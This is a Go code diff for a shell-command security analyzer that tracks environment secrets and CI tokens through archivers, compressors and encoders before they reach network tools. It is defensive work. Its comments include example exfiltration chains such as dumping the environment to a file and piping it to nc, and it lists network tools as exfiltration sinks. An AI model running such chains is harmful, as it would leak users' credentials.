@@ -70,6 +70,9 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *shell.State) string {
 					}
 				}
 				found = secretCall(words)
+				if found == "" {
+					found = interpreterEnvDump(words)
+				}
 				if found == "" && len(words) > 0 && (words[0] == "echo" || words[0] == "printf") {
 					found = a.printedSecret(x.Args[1:], st)
 				}
@@ -203,7 +206,9 @@ func secretCall(words []string) string {
 				return "git config --list"
 			}
 			for _, w := range rest {
-				if credentialName().MatchString(w) || strings.Contains(strings.ToLower(w), "credential") {
+				// http.extraheader holds the CI's token (actions/checkout
+				// writes "AUTHORIZATION: basic ..." there).
+				if lw := strings.ToLower(w); credentialName().MatchString(w) || strings.Contains(lw, "credential") || strings.HasSuffix(lw, ".extraheader") {
 					return "git config " + w
 				}
 			}
@@ -290,6 +295,19 @@ func (a *analyzer) stageSecret(s *syntax.Stmt, st *shell.State) string {
 	if src := a.secretSource([]*syntax.Stmt{s}, st); src != "" {
 		return src
 	}
+	// A file the command filled with secrets earlier, read by name:
+	// env > f; xxd f | nc host 80.
+	// Only literal names are looked at: expanding every argument of every
+	// stage again would repeat the work of nested substitutions.
+	if ce, ok := s.Cmd.(*syntax.CallExpr); ok && len(ce.Args) > 1 && len(a.bodies) > 0 {
+		for _, w := range ce.Args[1:] {
+			if v := shell.WordLiteral(w); v != "" {
+				if sec := a.fileSecret(shell.Word{Text: v}, st); sec != "" {
+					return sec
+				}
+			}
+		}
+	}
 	if a.stdinSecret == "" {
 		return ""
 	}
@@ -323,6 +341,8 @@ func (a *analyzer) fileSecret(x shell.Word, st *shell.State) string {
 }
 
 func registerExfil() {
+	judgeFirst([]string{"gzip", "bzip2", "xz", "lzma", "zstd", "lz4", "compress", "pigz", "tar", "bsdtar", "zip", "7z", "7za",
+		"openssl", "gpg", "age", "base64", "base32", "xxd", "od", "hexdump", "dd", "uuencode"}, (*analyzer).packedSecret)
 	judgeFirst([]string{"curl", "wget", "http", "https", "xh", "xhs", "nc", "ncat", "netcat", "socat", "telnet",
 		"ssh", "scp", "sftp", "rsync", "ftp", "dig", "nslookup", "host", "drill", "ping", "gh"}, (*analyzer).exfilSink)
 	judgeFirst([]string{"curl", "wget", "http", "https", "xh", "xhs"}, (*analyzer).forgeHTTP)
@@ -567,4 +587,112 @@ func environTemplate(tmpl string) bool {
 	}
 	pid, file, ok := strings.Cut(rest, "/")
 	return ok && file == "environ" && strings.Contains(pid, shell.UnknownMark)
+}
+
+// packedSecret carries a secret file's taint to what an archiver or
+// compressor makes of it: env > f; gzip f leaves the environment in f.gz,
+// tar czf x.tgz f and zip x.zip f put it in the archive.
+func (a *analyzer) packedSecret(inv *shell.Invocation) {
+	if len(a.bodies) == 0 {
+		return
+	}
+	args := inv.Args()
+	secretIn := func(xs []shell.Word) string {
+		for _, x := range xs {
+			if sec := a.fileSecret(x, inv.State); sec != "" {
+				return sec
+			}
+		}
+		return ""
+	}
+	carry := func(dest shell.Word, sec string) {
+		a.recordBody(inv, dest, &shell.Input{Secret: sec, Desc: "an archive of " + sec, File: true})
+	}
+	switch inv.Name {
+	case "tar", "bsdtar":
+		var archive shell.Word
+		var files []shell.Word
+		for i := 0; i < len(args); i++ {
+			x := args[i]
+			switch {
+			case strings.HasPrefix(x.Text, "--file="):
+				archive = shell.Word{Text: x.Text[len("--file="):]}
+			case x.Text == "--file" || x.Text == "-f":
+				if i+1 < len(args) {
+					archive = args[i+1]
+					i++
+				}
+			case i == 0 && !strings.HasPrefix(x.Text, "-") || strings.HasPrefix(x.Text, "-") && !strings.HasPrefix(x.Text, "--"):
+				// A cluster (czf, -czf): its f takes the next word.
+				if strings.Contains(x.Text, "f") && i+1 < len(args) {
+					archive = args[i+1]
+					i++
+				}
+			case !strings.HasPrefix(x.Text, "-"):
+				files = append(files, x)
+			}
+		}
+		if sec := secretIn(files); sec != "" && archive.Text != "" {
+			carry(archive, sec)
+		}
+	case "zip", "7z", "7za":
+		var ops []shell.Word
+		for _, x := range args {
+			if !strings.HasPrefix(x.Text, "-") {
+				ops = append(ops, x)
+			}
+		}
+		if (inv.Name == "7z" || inv.Name == "7za") && len(ops) > 0 {
+			ops = ops[1:] // the command letter: a, u
+		}
+		if len(ops) >= 2 {
+			if sec := secretIn(ops[1:]); sec != "" {
+				carry(ops[0], sec)
+			}
+		}
+	case "openssl", "gpg", "age", "base64", "base32", "xxd", "od", "hexdump", "dd", "uuencode":
+		// An encoder that writes its output to a file it is told:
+		// openssl enc -in f -out g, gpg -o g f, base64 -i f -o g, xxd f g,
+		// dd if=f of=g.
+		var out shell.Word
+		var ins []shell.Word
+		for i := 0; i < len(args); i++ {
+			x := args[i]
+			switch {
+			case (x.Text == "-out" || x.Text == "-o" || x.Text == "--output") && i+1 < len(args):
+				out = args[i+1]
+				i++
+			case strings.HasPrefix(x.Text, "--output="):
+				out = shell.Word{Text: x.Text[len("--output="):]}
+			case strings.HasPrefix(x.Text, "of="):
+				out = shell.Word{Text: x.Text[len("of="):]}
+			case strings.HasPrefix(x.Text, "if="):
+				ins = append(ins, shell.Word{Text: x.Text[len("if="):]})
+			case !strings.HasPrefix(x.Text, "-"):
+				ins = append(ins, x)
+			}
+		}
+		if out.Text == "" && inv.Name == "xxd" && len(ins) == 2 {
+			out, ins = ins[1], ins[:1]
+		}
+		if out.Text == "" && inv.Name == "gpg" && len(ins) > 0 {
+			out = shell.Word{Text: ins[len(ins)-1].Text + ".gpg"}
+		}
+		if sec := secretIn(ins); sec != "" && out.Text != "" {
+			carry(out, sec)
+		}
+	default:
+		ext := map[string]string{"gzip": ".gz", "pigz": ".gz", "bzip2": ".bz2", "xz": ".xz", "lzma": ".lzma", "zstd": ".zst", "lz4": ".lz4", "compress": ".Z"}[inv.Name]
+		for _, x := range args {
+			if strings.HasPrefix(x.Text, "-") {
+				if x.Text == "-d" || x.Text == "--decompress" || x.Text == "-c" || x.Text == "--stdout" {
+					return // the output goes to stdout: the pipeline carries it
+				}
+				continue
+			}
+			if sec := a.fileSecret(x, inv.State); sec != "" && x.Static() {
+				carry(shell.Word{Text: x.Text + ext}, sec)
+			}
+		}
+	}
 }
